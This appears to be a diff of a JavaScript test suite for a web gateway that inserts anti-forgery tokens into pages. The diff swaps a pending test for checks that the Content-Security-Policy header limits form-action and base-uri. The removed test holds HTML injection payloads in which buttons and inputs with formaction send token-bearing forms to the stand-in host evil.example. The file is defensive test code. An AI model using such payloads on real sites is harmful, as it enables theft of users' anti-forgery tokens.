@@ -21,9 +21,13 @@ const whole = await hostile("&csp=off");
 const parts = [...whole.matchAll(/<h2>([\w-]+)<\/h2>/g)].map(([, name]) => name);
 const own = whole.slice(0, whole.indexOf("<h2>"));
 
-// What docs/luminate.md says is not defended: a button in a form of the page's own may send that form elsewhere.
+// What only the browser can stop, since it comes after the token was written: tests/browser/luminate-hostile.test.mjs.
 const UNDEFENDED = ["form-button"];
-const todo = "not defended, says docs/luminate.md";
+
+/** The browser sends forms of a page, and resolves its addresses, to the gate's own and listed hosts alone. */
+function isProtected(answer) {
+  assert.match(answer.header("content-security-policy") ?? "", /(?:^|, )base-uri 'self' 127\.0\.0\.1:8787 127\.0\.0\.1:8788; form-action 'self' 127\.0\.0\.1:8787 127\.0\.0\.1:8788$/);
+}
 
 /** The page's own server may have the token, and those that the policy lists a nonce. */
 const mayHaveToken = (address) => new URL(address, "http://127.0.0.1:8787/site/SPageServer").host === "127.0.0.1:8787";
@@ -57,7 +61,8 @@ test("the page is the hostile one, and has its own token in its own first paragr
 });
 
 for (const part of parts) {
-  test(`alone: ${part}`, { todo: UNDEFENDED.includes(part) && todo }, async () => {
+  test(`alone: ${part}`, async () => {
+    if (UNDEFENDED.includes(part)) return isProtected(await gate.get(`/site/SPageServer?pagename=hostile&csp=off&part=${part}`, headers));
     const text = await hostile(`&csp=off&part=${part}`);
     const rest = text.slice(text.indexOf("<h2>"));
     assert.ok(text.startsWith(own.slice(0, own.indexOf("<main>"))));
@@ -82,16 +87,9 @@ async function shown(text, path = "/web/a") {
   return (await gate.get(path, headers)).text;
 }
 
-test("a form that has its token already is not sent elsewhere by what a visitor writes into it or behind it", { todo }, async () => {
-  const button = { within: '<form action="/site/CRConsAPI" method="post">[[S86]]<button formaction="https://evil.example/">a</button></form>' };
-  button.behind = '<form id="f" action="/site/CRConsAPI" method="post">[[S86]]</form><button form="f" formaction="https://evil.example/">a</button>';
-  button.image = '<form action="/site/CRConsAPI" method="post">[[S86]]<input type="image" alt="a" formaction=https://evil.example/></form>';
-  button.value = '<form id="f" action="/site/CRConsAPI"><input name="t" value="[[S86:true]]"></form><input type="submit" form="f" formaction="//evil.example/">';
-  for (const [how, text] of Object.entries(button)) {
-    const page = await shown(text);
-    const leaves = page.includes(jo.token) && /\sformaction\s*=\s*["']?(?:https:)?\/\/evil/i.test(page);
-    assert.ok(!leaves, `${how}: ${page}`);
-  }
+test("a page says to browsers where its forms and addresses may lead, whatever it says itself", async () => {
+  for (const more of ["form", "tags", "plain", "hostile", "hostile&csp=off"]) isProtected(await gate.get(`/site/SPageServer?pagename=${more}`, headers));
+  assert.match((await gate.get("/site/SPageServer?pagename=plain", headers)).header("content-security-policy"), /form-action 'none'.*, base-uri 'self'/);
 });
 
 test("where the route expands in scripts, styles and comments, addresses and forms still get nothing", async () => {
